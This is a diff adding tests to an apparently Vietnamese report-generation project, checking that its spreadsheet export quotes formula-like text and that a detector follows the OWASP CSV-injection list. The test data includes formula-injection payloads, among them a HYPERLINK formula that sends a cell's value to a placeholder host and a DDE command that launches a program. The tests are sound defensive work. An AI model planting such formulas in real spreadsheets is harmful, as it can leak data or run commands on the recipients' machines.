@@ -116,3 +116,48 @@ def test_docx_table_and_report_open_with_python_docx(tmp_path):
     assert "BÁO CÁO KẾT QUẢ TUYỂN QUÂN NĂM 2025" in text and "Nơi nhận:" in text
     fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True).stdout
     assert all(" yes " in ln for ln in fonts.splitlines()[2:] if ln.strip())
+
+
+#: Text a spreadsheet would run (OWASP CSV injection): each leading character of the rules,
+#: their full-width forms, and the two classic payloads.
+HOSTILE = (
+    '=HYPERLINK("http://x/?"&C9,"y")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+)
+
+
+def test_xlsx_never_writes_a_formula_from_text():
+    doc = TableDocument(
+        title=HOSTILE[0],
+        subtitle=HOSTILE[1],
+        issuer=(HOSTILE[2],),
+        place_date=HOSTILE[3],
+        columns=[Column(h) for h in HOSTILE],
+        rows=[HOSTILE, ["Nguyễn Văn A", *HOSTILE[1:]]],
+        totals=HOSTILE,
+        notes=HOSTILE,
+        signature=HOSTILE,
+    )
+    ws = openpyxl.load_workbook(io.BytesIO(render_xlsx(doc))).active
+    written = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert {c.value for c in written} >= set(HOSTILE)  # every text kept exactly
+    assert [c.coordinate for c in written if c.data_type != "s"] == []  # no formula
+    for cell in written:
+        # Excel's own mark of a typed leading apostrophe: shown as text, edited as text.
+        assert cell.quotePrefix == (cell.value in HOSTILE), (cell.coordinate, cell.value)
+
+
+def test_formula_like_follows_the_owasp_list():
+    from muster.documents.excel import formula_like
+
+    assert all(formula_like(text) for text in HOSTILE)
+    assert not any(formula_like(t) for t in ("", "Nguyễn Văn A", "12/12", "— ", "Thôn 2", "'=1"))
